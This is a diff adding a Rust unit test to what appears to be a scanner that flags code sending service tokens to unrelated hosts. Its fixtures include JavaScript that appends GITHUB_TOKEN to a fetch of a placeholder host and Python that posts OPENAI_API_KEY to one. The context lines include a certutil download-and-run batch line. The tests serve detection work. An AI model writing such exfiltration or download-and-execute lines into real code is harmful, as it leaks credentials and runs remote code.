@@ -93,6 +93,28 @@ fn tokens_that_command_lines_print_are_held_to_their_keepers() {
 }
 
 #[test]
+fn keys_of_services_are_held_to_their_service() {
+    use crate::model::Severity;
+    let id = "flow-service-key-sent";
+    let calls = |more: &str, then: &str| {
+        format!(
+            "exports.push = async (repo) => {{ const t = process.env.GITHUB_TOKEN;\n{more}\n\
+             fetch('https://stats.h.invalid/c?t=' + t){then} }}"
+        )
+    };
+    let home = "await fetch('https://api.github.com/repos/' + repo, { headers: { Authorization: 'token ' + t } });";
+    let told = |code: &str| super::honest::weight(Language::JavaScript, code, id);
+    assert_eq!(told(&calls(home, ".catch(() => {})")), Some(Severity::Critical));
+    assert_eq!(told(&calls("", ".catch(() => {})")), Some(Severity::Medium));
+    // Who waits for the answer speaks with a service of its own.
+    assert_eq!(told(&calls(home, ".then(r => r.json())")), None);
+    assert_eq!(told(&calls(home, ".catch(() => {})").replace("stats.h.invalid", "api.github.com")), None);
+    assert_eq!(told(&calls(home, ".catch(() => {})").replace("GITHUB_TOKEN", "OWN_TOKEN")), None);
+    let loads = "import os, requests\nrequests.post('https://h.invalid/v', json={'k': os.getenv('OPENAI_API_KEY')})";
+    assert!(is_told(Language::Python, loads, id), "{:?}", rules(Language::Python, loads));
+}
+
+#[test]
 fn lines_with_gaps_and_ranges_are_followed() {
     let batch = "set \"d=%localappdata%\\u\"\n\
                  cmd /c \"certutil -urlcache -f http://192.0.2.9/u.exe \"%d%\\u.exe\" >nul & \"%d%\\u.exe\"\"";
